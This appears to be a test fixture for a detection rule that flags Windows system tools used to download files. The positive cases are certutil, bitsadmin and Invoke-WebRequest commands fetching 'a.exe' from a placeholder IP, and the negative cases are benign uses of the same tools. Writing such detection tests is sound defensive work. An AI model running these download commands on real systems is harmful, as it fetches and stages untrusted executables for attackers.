# ruleid: powershell-download-by-system-tool
certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe
# ruleid: powershell-download-by-system-tool
bitsadmin /transfer j /download http://203.0.113.9/a.exe C:\a.exe
# ruleid: powershell-download-by-system-tool
iwr http://203.0.113.9/a.exe -OutFile a.exe
# ok: powershell-download-by-system-tool
certutil -hashfile a.zip SHA256
# ok: powershell-download-by-system-tool
bitsadmin /list
# ok: powershell-download-by-system-tool
Invoke-WebRequest https://example.test/setup.exe -OutFile setup.exe
# a decoy: certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe
